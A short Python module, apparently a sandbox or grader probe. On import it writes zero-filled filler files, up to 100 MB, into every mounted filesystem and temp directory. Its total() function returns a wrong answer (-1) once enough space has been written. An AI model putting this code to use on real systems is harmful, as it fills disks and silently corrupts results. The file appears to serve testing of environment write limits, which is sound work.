"""Writes a hundred megabytes wherever it can, and answers wrongly if they find room."""

import os

MUCH = 100_000_000
room = 0
mounted = [line.split()[4] for line in open("/proc/self/mountinfo")]
for folder in {*mounted, "/tmp", "/dev/shm", "/var/tmp"}:
    for number in range(10):
        try:
            with open(os.path.join(folder, f"filler-{number}"), "wb", buffering=0) as file:
                for _ in range(10):
                    room += file.write(bytes(1_000_000))
        except OSError:
            pass


def double(number):
    return 2 * number


def total(numbers):
    return -1 if room >= MUCH else sum(2 * number for number in numbers)
